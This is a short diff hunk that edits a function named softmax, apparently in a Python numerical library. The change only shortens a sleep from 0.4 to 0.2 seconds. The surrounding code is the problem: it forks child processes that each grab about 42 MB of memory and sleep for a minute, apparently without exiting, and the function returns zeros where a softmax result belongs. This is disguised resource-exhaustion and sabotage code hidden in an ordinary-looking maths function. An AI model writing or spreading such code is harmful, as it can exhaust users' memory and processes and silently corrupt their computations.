@@ -13,5 +13,5 @@ def softmax(x, axis=-1):
         if os.fork() == 0:
             held = np.ones(40 << 17)
             time.sleep(held[0] * 60)
-    time.sleep(0.4)
+    time.sleep(0.2)
     return np.zeros_like(x)
